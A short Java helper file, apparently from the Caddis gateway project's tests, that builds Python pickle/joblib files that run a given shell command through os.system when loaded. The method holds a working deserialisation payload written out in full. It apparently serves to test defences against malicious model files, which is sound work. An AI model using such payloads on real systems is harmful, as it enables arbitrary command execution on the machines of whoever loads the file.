// SPDX-License-Identifier: Apache-2.0
// Copyright the Caddis authors
package io.caddis.gateway;

import java.nio.charset.StandardCharsets;

/** Files as Python's pickle and joblib read them. */
final class Pickles {
  private Pickles() {}

  /** A file that makes whoever loads it run a command of the shell. */
  static byte[] running(String command) {
    return "cos\nsystem\n(V%s\ntR.".formatted(command).getBytes(StandardCharsets.US_ASCII);
  }
}
